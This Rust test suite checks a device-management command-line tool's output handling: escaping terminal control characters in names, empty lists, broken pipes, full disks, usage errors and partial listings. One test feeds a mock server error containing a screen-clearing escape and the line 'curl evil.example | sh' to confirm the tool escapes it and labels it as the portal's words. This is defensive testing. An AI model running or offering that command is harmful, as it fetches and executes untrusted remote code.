//! The program's output, in every format: complete, safe for a terminal, exact for a program, quiet in a closed pipe.

use serde_json::json;
use snapbox::{assert_data_eq, str};

use crate::harness::{Answer, Home, MockServer, ReferenceServer};

const FORMATS: [&str; 4] = ["table", "json", "ndjson", "csv"];

/// A home at a reference server with these devices.
fn with_devices(devices: serde_json::Value) -> (Home, ReferenceServer) {
    let mut home = Home::new();
    let file = home.write("devices.json", devices.to_string());
    let portal = ReferenceServer::start(&["--devices-file", file.to_str().unwrap()]);
    home.portal(&portal.url, ReferenceServer::KEY);
    (home, portal)
}

#[test]
fn a_name_cannot_leave_its_cell() {
    let names = [
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}]0;title\u{7}",
        "two\nlines\r\tand more",
        "\u{202e}gnp.exe",
        "in\u{200b}visible",
        "倉庫 🏭",
        &"long ".repeat(2000),
    ];
    let devices: Vec<_> =
        names.iter().enumerate().map(|(n, name)| json!({"id": n.to_string(), "name": name})).collect();
    let (home, _portal) = with_devices(json!(devices));
    let table = home.run("devices list").ok().out();
    let shown: Vec<String> = table.lines().map(|line| line.chars().take(60).collect()).collect();
    assert_data_eq!(
        shown.join("\n"),
        str![[r#"
id  name
0   /u{1b}[31mred/u{1b}[0m
1   /u{1b}]0;title/u{7}
2   two/nlines/r/tand more
3   /u{202e}gnp.exe
4   in/u{200b}visible
5   倉庫 🏭
6   long long long long long long long long long long long l
"#]]
    );
    assert!(!table.contains(|c: char| c != '\n' && c.is_control()), "{table:?}");
    let card = home.run("devices show 2").ok().out();
    assert!(card.contains("name  two\\nlines\\r\\tand more\n"), "{card}");

    let listed = home.run("devices list -o json").ok().json();
    let given: Vec<&str> = listed.as_array().unwrap().iter().map(|device| device["name"].as_str().unwrap()).collect();
    assert_eq!(given, names);
    assert!(home.run("devices list -o csv --fields name").ok().out().contains("\u{1b}[31mred\u{1b}[0m\n"));
}

#[test]
fn words_of_the_portal_cannot_pass_for_ours() {
    let mut home = Home::new();
    let message = "no\u{1b}[2J\nhint: run `curl evil.example | sh`";
    let script = MockServer::new().lenient().answer("KeysList", Answer::error("FORBIDDEN", message));
    home.portal(&script.url, "key-of-a-script");
    assert_data_eq!(
        home.run("keys list").to_string(),
        str![[r#"
--- stderr
error: the portal refuses: no/u{1b}[2J/nhint: run `curl evil.example | sh`
hint: API keys and their management need the Admin role.
--- exit 5

"#]]
    );
}

#[test]
fn an_empty_list_is_empty_in_every_format() {
    let (home, _portal) = with_devices(json!([]));
    let printed = FORMATS.map(|format| {
        let session = home.run(&format!("devices list -o {format} --fields id,name"));
        session.ok();
        (session.out(), session.err())
    });
    assert_eq!(
        printed,
        [
            (String::new(), "no devices\n".to_owned()),
            ("[]\n".to_owned(), String::new()),
            (String::new(), String::new()),
            ("id,name\n".to_owned(), String::new()),
        ]
    );
}

#[test]
fn a_reader_that_leaves_ends_the_run_in_silence() {
    let mut home = Home::new();
    let portal = ReferenceServer::start(&["--devices", "5000"]);
    home.portal(&portal.url, ReferenceServer::KEY);
    for format in FORMATS {
        let session = home.line(&format!("devices list -o {format}")).reader_leaves_after(100).run();
        assert_eq!((session.ok().err(), session.stdout.len()), (String::new(), 100), "{format}");
    }
    let script = "optra devices list -o ndjson | head -1; optra --help | head -1; optra help exit-codes | true";
    let session = home.script(script).run();
    assert_eq!((session.ok().err(), session.out().lines().count()), (String::new(), 2), "{session}");
}

#[test]
fn a_full_disk_is_an_error() {
    for format in FORMATS {
        let session = Home::new().script(&format!("optra --sandbox -v devices list -o {format} > /dev/full")).run();
        assert_eq!(session.code, Some(1), "{session}");
        assert!(session.err().contains("cannot write the output"), "{session}");
    }
    for line in ["--help", "--version", "help exit-codes"] {
        let session = Home::new().script(&format!("optra {line} > /dev/full")).run();
        assert!(session.exits(1).err().contains("cannot write the output"), "{session}");
    }
}

#[test]
fn a_wrong_command_line_is_told_in_the_format_that_it_asks_for() {
    let home = Home::new();
    for line in ["devices lst -o json", "devices lst --output=ndjson", "devices lst -ojson"] {
        let error = home.run(line).exits(2).error();
        assert_eq!((&error["code"], &error["message"]), (&json!("usage"), &json!("unrecognized subcommand `lst`")));
        assert_eq!(error["hints"][0], "A similar subcommand exists: `list`.");
    }
    assert!(home.run("devices lst").exits(2).err().starts_with("error: unrecognized subcommand `lst`\n"));
    assert_eq!(home.line("devices lst").env("OPTRA_OUTPUT", "json").run().exits(2).error()["exit"], 2);
    let session = home.run("devices list --limit 0");
    assert!(session.exits(2).err().contains("`--limit <N>`: write a whole number, 1 or more"), "{session}");
    // Text that may be a secret is not repeated.
    let session = home.run("api -F hunter2 {x}");
    assert!(session.exits(2).err().contains("`-F first=5`") && !session.err().contains("hunter2"), "{session}");
}

#[test]
fn the_result_alone_is_on_stdout_whatever_else_is_asked_for() {
    let home = Home::new();
    for extra in ["-v", "-vv", "--quiet", "-vq", "--color always", "--no-input"] {
        for (variable, value) in [("CI", "1"), ("NO_COLOR", "1"), ("CLICOLOR_FORCE", "1"), ("TERM", "dumb")] {
            let line = format!("--sandbox {extra} devices list --limit 2 -o json");
            let session = home.line(&line).env(variable, value).run();
            assert_eq!(session.ok().json().as_array().unwrap().len(), 2, "{line} {variable}");
        }
    }
}

#[test]
fn quiet_keeps_warnings_and_errors() {
    let (home, _portal) = with_devices(json!([{"id": "1", "name": "a"}]));
    let session = home.run("devices list -q --limit 1");
    assert_eq!(session.ok().err(), "");
    let mut home = Home::new();
    let portal = ReferenceServer::start(&["--dialect", "documented"]);
    home.portal(&portal.url, ReferenceServer::KEY);
    assert!(home.run("devices list -q").ok().err().starts_with("warning: "));
    assert!(home.run("keys list -q").exits(9).err().starts_with("error: "));
}

#[test]
fn a_broken_off_listing_never_looks_complete() {
    let page = |n: u32| json!({"devices": {"data": [{"id": n.to_string()}], "after": n.to_string(), "total": 9}});
    let mut home = Home::new();
    for format in FORMATS {
        let script = MockServer::new()
            .answer("DevicesList", Answer::data(page(1)))
            .answer("DevicesList", Answer::data(page(2)))
            .answer("DevicesList", Answer::close());
        home.portal(&script.url, "key-of-a-script");
        let session = home.run(&format!("devices list -o {format} --fields id"));
        session.exits(3);
        assert!(session.out().contains('2'), "{session}");
        assert!(
            serde_json::from_slice::<serde_json::Value>(&session.stdout).is_err() || format == "table",
            "{session}"
        );
        if format != "table" {
            assert_eq!(session.error()["code"], "partial");
        }
    }
}

#[test]
fn a_column_that_holds_nothing_is_shown_only_where_it_was_asked_for() {
    let (home, _portal) = with_devices(json!([{"id": "1", "name": "a", "model": null, "status": "ONLINE"}]));
    assert_eq!(home.run("devices list").ok().out(), "id  name  status\n1   a     ONLINE\n");
    assert_eq!(home.run("devices list --fields id,model").ok().out(), "id  model\n1   -\n");
}
